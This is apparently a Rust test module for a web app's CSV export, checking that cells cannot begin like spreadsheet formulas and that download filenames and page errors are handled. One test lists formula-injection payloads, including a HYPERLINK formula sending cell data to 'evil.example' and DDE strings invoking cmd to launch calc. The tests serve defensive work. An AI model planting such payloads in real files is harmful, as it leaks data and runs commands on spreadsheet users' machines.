//! T20: nothing that anybody can write becomes a formula in an export.

use axum::http::header;
use futures_util::stream;
use http_body_util::BodyExt;
use proptest::prelude::*;

use super::*;

/// What OWASP and the spreadsheet programs' own manuals name.
const STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

fn read(bytes: &[u8]) -> Vec<Row> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes)
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Texts that begin like formulas far more often than chance would have it.
fn cell() -> impl Strategy<Value = String> {
    let begin = "['\\s\u{feff}\u{200b}]{0,3}[=+@＝＋－＠'\t\r\n -]{0,2}";
    (begin, "\\PC{0,12}", any::<String>()).prop_map(|(begin, middle, end)| begin + &middle + &end)
}

proptest! {
    #[test]
    fn t20_no_cell_begins_like_a_formula_and_every_cell_comes_back(
        rows in prop::collection::vec(prop::collection::vec(cell(), 1..6), 0..6)
    ) {
        let back = read(&written(&rows));
        prop_assert_eq!(back.len(), rows.len());
        for (cell, was) in back.iter().flatten().zip(rows.iter().flatten()) {
            let first = cell.trim_start_matches(['\u{feff}', ' ', '\u{a0}', '\u{200b}']).chars().next();
            prop_assert!(!first.is_some_and(|c| STARTS.contains(&c)), "{:?}", cell);
            prop_assert_eq!(unguarded(cell), was);
        }
    }
}

#[test]
fn t20_what_is_known_to_be_computed_is_text_afterwards() {
    for evil in [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")",
        "+1-cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "＝1+1",
        "'=1+1",
    ] {
        assert!(guarded(evil).starts_with('\''), "{evil:?}");
        assert_eq!(unguarded(&guarded(evil)), evil);
    }
    for plain in [
        "",
        "Ada",
        "O'Neill",
        "'s-Gravenhage",
        "ada@uni.edu",
        "1-2",
        "“=”",
    ] {
        assert_eq!(guarded(plain), plain);
    }
}

#[test]
fn a_quote_a_separator_and_a_line_break_stay_within_their_cell() {
    let row = vec!["a\"b".to_owned(), "c,d;e".to_owned(), "f\r\ng".to_owned()];
    let text = written(std::slice::from_ref(&row));
    assert_eq!(text, b"\"a\"\"b\",\"c,d;e\",\"f\r\ng\"\r\n");
    assert_eq!(read(&text), [row]);
}

#[tokio::test]
async fn a_download_has_its_name_its_mark_and_every_page() {
    let page = |cell: &str| Ok(vec![vec![cell.to_owned()]]);
    let pages = stream::iter([page("one"), page("=two")]);
    let response = download("people 2026\r\n.csv", &["name"], pages);
    let name = &response.headers()[header::CONTENT_DISPOSITION];
    assert_eq!(name, "attachment; filename=\"people2026.csv\"");
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(
        bytes,
        "\u{feff}\"name\"\r\n\"one\"\r\n\"'=two\"\r\n".as_bytes()
    );
}

#[tokio::test]
async fn a_page_that_cannot_be_read_breaks_the_download_off() {
    let pages = stream::iter([Ok(vec![vec!["one".to_owned()]]), Err(Fault::not_found())]);
    let response = download("people.csv", &["name"], pages);
    assert!(response.into_body().collect().await.is_err());
}
